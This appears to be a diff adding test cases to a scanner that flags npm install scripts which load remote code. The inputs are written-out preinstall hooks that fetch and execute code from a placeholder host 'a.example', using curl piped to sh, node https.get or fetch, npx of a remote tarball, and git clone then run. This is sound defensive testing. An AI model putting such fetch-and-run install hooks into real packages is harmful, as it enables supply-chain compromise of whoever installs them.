@@ -52,6 +52,22 @@ describe("package.json", () => {
     expect(found("package.json", scripts('"preinstall": "curl https://a.example/x | sh"'))).toEqual([
       "loading-install-script:3",
     ]);
+    const refuses = String.raw`node -e \"if (!ok) throw new Error('Use yarn for installing: https://yarnpkg.com/en/docs/install')\"`;
+    expect(found("package.json", scripts(`"preinstall": "${refuses}"`))).toEqual(["install-script:3"]);
+  });
+
+  it.each([
+    String.raw`node -e \"require('https').get('https://a.example/x.js', run)\"`,
+    String.raw`node -e \"fetch('https://a.example/x').then(run)\"`,
+    "npx --yes https://a.example/x.tgz",
+    "git clone https://a.example/x && x/run",
+  ])("finds that the install script %s loads code", (loading) => {
+    const text = `{\n  "scripts": {\n    "preinstall": "${loading}"\n  }\n}`;
+    expect(found("package.json", text)).toEqual(["loading-install-script:3"]);
+  });
+
+  it("lets scripts that nobody's install runs be", () => {
+    const scripts = (text: string): string => `{\n  "scripts": {\n    ${text}\n  }\n}`;
     expect(found("package.json", scripts('"build": "node build.js", "prepare": "husky"'))).toEqual([]);
   });
 });
